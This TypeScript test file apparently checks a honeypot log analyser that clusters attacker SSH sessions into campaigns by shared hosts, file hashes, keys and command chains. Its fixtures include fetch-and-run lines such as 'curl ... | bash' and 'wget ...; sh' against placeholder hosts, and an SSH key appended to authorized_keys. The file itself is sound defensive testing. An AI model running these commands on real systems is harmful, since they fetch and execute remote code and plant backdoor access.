import { describe, expect, test } from "bun:test";
import { campaignToText } from "../../../lib/campaigns/campaign-text.ts";
import { offeredElsewhere } from "../../../lib/campaigns/campaign.ts";
import { campaignById, type Campaigns, findCampaigns, type FindOptions } from "../../../lib/campaigns/find-campaigns.ts";
import { sessionsOfId, whyTogether } from "../../../lib/campaigns/why-together.ts";
import { judgePairs, plantCampaigns } from "../../support/campaign-families.ts";
import { type LogEvent, readEvents } from "../../support/event-logs.ts";

const DAY_S = 86_400;
const sha = (text: string) => new Bun.CryptoHasher("sha256").update(text).digest("hex");
const KEY = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${"D".repeat(300)}`;

/** What a session does, one event a second. */
function session(id: string, at: number, ...events: readonly (readonly [string, object])[]): LogEvent[] {
  return events.map(([eventid, rest], i) => ({ eventid, at: at + i, session: id, ...rest }));
}
const typed = (input: string) => ["command.input", { input }] as const;
const file = (content: string, url: string) => ["session.file_download", { shasum: sha(content), url }] as const;

async function find(logs: readonly (readonly LogEvent[])[], options: FindOptions = {}): Promise<Campaigns> {
  using set = await readEvents(...logs);
  return await findCampaigns(set, options);
}

/** Sessions of each campaign, in the order of the campaigns. */
function membersOf({ joined, outlines }: Campaigns): string[][] {
  const all = Array.from({ length: joined.sessions.count }, (_, i) => i);
  return outlines.map(({ number }) => all.filter(i => joined.campaign[i] === number).map(i => joined.sessions.idOf(i)).sort());
}

describe("twelve planted families", () => {
  test.each([
    ["first", 1200],
    ["second", 500],
  ])("are told apart: pairwise precision and recall of 0.95 and more (%s, %d sessions)", async (seed, count) => {
    const { logs, sessions } = plantCampaigns(seed, count, 4);
    const found = await find(logs);
    const groups = new Map<string, number>();
    found.joined.campaign.forEach((campaign, i) => campaign >= 0 && groups.set(found.joined.sessions.idOf(i), campaign));
    const { precision, recall } = judgePairs(sessions, id => groups.get(id));
    expect(precision).toBeGreaterThanOrEqual(0.95);
    expect(recall).toBeGreaterThanOrEqual(0.95);
    // Who serves everybody joins nobody.
    const common = found.joined.sessions.marks.filter((_, mark) => found.joined.isCommon[mark] === 1);
    expect(common).toEqual([{ kind: "host", value: "paste.bad.test" }]);
    const { sessions: marked, campaign } = found.joined;
    const code = marked.marks.findIndex((_, mark) => found.joined.isCommon[mark] === 1);
    const served = [...Array(marked.count).keys()].filter(i => marked.markSets[marked.markSet[i]!]!.includes(code));
    const other = served.find(i => campaign[i] !== campaign[served[0]!])!;
    expect(whyTogether(found.joined, served[0]!, other)).toMatchObject({ isTogether: false, common: [{ kind: "host", value: "paste.bad.test" }] });
  });

  test("keep their ids when days are added, and those that were joined are found under the id they had", async () => {
    const { logs } = plantCampaigns("days", 400, 4);
    const [less, more] = [await find(logs.slice(0, 2)), await find(logs)];
    expect(less.campaigns.length).toBeGreaterThan(9);
    for (const { id, namedBy } of less.campaigns) {
      const now = campaignById(more, id);
      expect({ id, namedBy, isThere: now !== undefined }).toEqual({ id, namedBy, isThere: true });
    }
    expect(less.campaigns.filter(({ id }) => more.campaigns.some(one => one.id === id)).length).toBeGreaterThan(9);
    // The order of the files is no matter.
    const turned = await find([...logs].reverse());
    expect(turned.campaigns.map(({ id, sessions }) => [id, sessions])).toEqual(more.campaigns.map(({ id, sessions }) => [id, sessions]));
  });
});

describe("findCampaigns", () => {
  test("joins by file, path, host, key and chain; by nothing that everybody leaves", async () => {
    const found = await find([
      [
        ...session("f1", 0, typed("wget http://198.51.100.7/one"), file("x", "http://198.51.100.7/one")),
        ...session("f2", 10, typed("curl -O http://203.0.113.9/two"), file("x", "http://203.0.113.9/two")),
        ...session("h2", 20, typed("cd /opt && wget http://203.0.113.9/zz.tgz && tar xf zz.tgz")),
        ...session("p1", 30, typed("wget http://198.51.100.50/weasel; sh weasel")),
        ...session("p2", 40, typed("cd /tmp; curl -s http://198.51.100.60/weasel | bash")),
        ...session("k1", 50, ["client.fingerprint", { key: KEY, fingerprint: "aa" }], ["login.success", { username: "root", password: "x" }]),
        ...session("k2", 60, typed(`echo "${KEY} stoat" >> ~/.ssh/authorized_keys`)),
        ...session("c1", 70, typed("lspci | grep VGA"), typed("echo gayfgt")),
        ...session("c2", 80, typed("lspci | grep VGA"), typed("lspci | grep VGA"), typed("echo gayfgt")),
        ...["n1", "n2", "n3"].flatMap((id, i) => session(id, 90 + i, typed("uname -a"), file("", "http://192.168.0.1/x"))),
        ...session("g1", 100, typed("wget https://github.com/a/b; sh b")),
        ...session("g2", 110, typed("curl -L https://github.com/c/d > d")),
      ],
    ]);
    expect(membersOf(found)).toEqual(expect.arrayContaining([["f1", "f2", "h2"], ["p1", "p2"], ["k1", "k2"], ["c1", "c2"]]));
    expect(found.campaigns).toHaveLength(4);
    expect([found.marked, found.alone, found.unmarked]).toEqual([14, 2, 3]);
    const keys = found.campaigns.find(({ keys }) => keys.length > 0)!;
    expect(keys.name).toBe("stoat");
    expect(keys.keys).toMatchObject([{ type: "ssh-rsa", planted: 1, offered: 1, plantedOn: ["a"], offeredOn: ["a"] }]);
  });

  test("a key of which a log tells the fingerprint alone joins its sessions; an empty one joins none", async () => {
    const offers = (id: string, at: number, fingerprint: string) => session(id, at, ["client.fingerprint", { fingerprint }]);
    const found = await find([[...offers("a", 0, "aa:bb"), ...offers("b", 60, "aa:bb"), ...offers("c", 90, ""), ...offers("d", 99, "")]]);
    expect(membersOf(found)).toEqual([["a", "b"]]);
  });

  test("a key planted on one sensor and offered on another is told", async () => {
    const found = await find([
      [
        ...session("k1", 0, typed(`echo "${KEY} stoat" >> ~/.ssh/authorized_keys`)),
        ...session("k2", 60, ["client.fingerprint", { key: KEY, sensor: "b" }]),
      ],
    ]);
    const [key] = found.campaigns[0]!.keys;
    expect(offeredElsewhere(key!)).toEqual(["b"]);
    expect(campaignToText(found.campaigns[0]!, found, { width: undefined, color: false })).toContain("; planted elsewhere, offered on b\n");
  });

  test("a bot that is nearly all of a small archive stays one, whatever it shares with itself", async () => {
    const bot = Array.from({ length: 60 }, (_, i) =>
      session(`b${i}`, 10 * i, typed(`cd /tmp; wget http://198.51.100.7/otter -O ${sha(`${i}`).slice(0, 9)}; sh ${sha(`${i}`).slice(0, 9)}`), file("otter", "http://198.51.100.7/otter")),
    ).flat();
    const others = ["uname -a", "ls", "cat /proc/cpuinfo"].flatMap((input, i) => session(`o${i}`, 1000 + i, typed(input)));
    const found = await find([[...bot, ...others]]);
    expect(found.campaigns.map(({ name, sessions }) => [name, sessions])).toEqual([["otter", 60]]);
  });

  test("sessions that lie in two logs are whole; their chain is in order of time whichever log is read first", async () => {
    const first = session("s1", DAY_S / 2 - 5, ["session.connect", { dst_port: 22 }], typed("one | a"), typed("two | b"));
    const second = session("s1", DAY_S / 2 + 5, typed("three | c"), ["session.closed", { duration: 10 }]);
    const again = session("s2", DAY_S, typed("one | a"), typed("two | b"), typed("three | c"));
    for (const logs of [[first, [...second, ...again]], [[...second, ...again], first]]) {
      const found = await find(logs);
      expect(found.campaigns.map(({ chains, sessions }) => [sessions, chains.map(({ commands }) => commands)])).toEqual([
        [2, [["one | a", "two | b", "three | c"]]],
      ]);
    }
  });

  test("counts the days and sensors asked for, but joins all: ids stay, and what was there before is known", async () => {
    const day = (n: number) => session(`s${n}`, n * DAY_S, typed("lspci | grep VGA"), ["login.success", { username: "root", password: "x" }]).map(event => ({ ...event, sensor: n % 2 ? "a" : "b" }));
    const logs = [[0, 1, 2, 20, 21].flatMap(day)];
    const all = await find(logs);
    const first = Math.floor(all.campaigns[0]!.firstUs / 86_400_000_000);
    const some = await find(logs, { sinceDay: first + 20 });
    const one = await find(logs, { sensors: ["b"], lastDays: 2 });
    expect([all, some, one].map(({ campaigns: [own] }) => [own!.id, own!.sessions, own!.state])).toEqual([
      [all.campaigns[0]!.id, 5, "returning"],
      [all.campaigns[0]!.id, 2, undefined],
      [all.campaigns[0]!.id, 3, "returning"],
    ]);
    expect(all.campaigns[0]!.credentials).toEqual([{ username: "root", password: "x", sessions: 5 }]);
    expect(all.campaigns[0]!.days.map(({ sessions }) => sessions)).toEqual([1, 1, 1, 1, 1]);
  });

  test("a session that names very many hosts joins nobody to anybody", async () => {
    const besideOneOf = (hosts: number) =>
      find([
        [
          ...session("w1", 0, typed(Array.from({ length: hosts }, (_, i) => `wget http://host${i}.bad.test/q;`).join(" "))),
          ...session("a1", 10, typed("wget http://host1.bad.test/otter1")),
          ...session("b1", 20, typed("curl -s http://host2.bad.test/weasel | sh")),
        ],
      ]);
    expect((await besideOneOf(40)).campaigns).toEqual([]);
    expect(membersOf(await besideOneOf(3))).toEqual([["a1", "b1", "w1"]]);
  });

  test("sessions whose ids are the same for long are two", async () => {
    const ids = ["a", "b"].map(end => "s".repeat(5000) + end);
    const found = await find([ids.flatMap((id, i) => session(id, 10 * i, typed("wget http://198.51.100.7/weasel")))]);
    expect(membersOf(found)).toEqual([ids]);
  });

  test("of nothing is nothing", async () => {
    const found = await find([[...session("s1", 0, ["session.connect", { dst_port: 22 }])]]);
    expect([found.campaigns, found.sessions, found.marked, found.days]).toEqual([[], 1, 0, undefined]);
  });
});

test("why two sessions are together: what both have, or the way from one to the other; or what they share in vain", async () => {
  const { joined } = await find([
    [
      ...session("a", 0, typed("wget http://198.51.100.7/otter.bin")),
      ...session("b", 10, typed("cd /srv && curl http://198.51.100.7/q1 | sh"), file("weasel", "http://198.51.100.7/q1")),
      ...session("c", 20, file("weasel", "http://203.0.113.9/q2")),
      ...session("x", 30, typed("uname -a")),
      ...session("y", 40, typed("uname -a")),
    ],
  ]);
  const why = (a: string, b: string) => whyTogether(joined, sessionsOfId(joined, a)[0]!, sessionsOfId(joined, b)[0]!);
  expect(why("a", "b")).toMatchObject({ isTogether: true, shared: [{ kind: "host", value: "198.51.100.7" }] });
  const far = why("a", "c");
  expect(far).toMatchObject({ isTogether: true, shared: [] });
  expect(far.way.map(({ mark, by }) => [mark.kind, by?.session])).toEqual([
    ["host", undefined],
    ["hash", "b"],
  ]);
  expect(why("x", "y")).toMatchObject({ isTogether: false, way: [], shared: [], common: [{ kind: "chain", value: "uname -a" }], near: 1 });
});
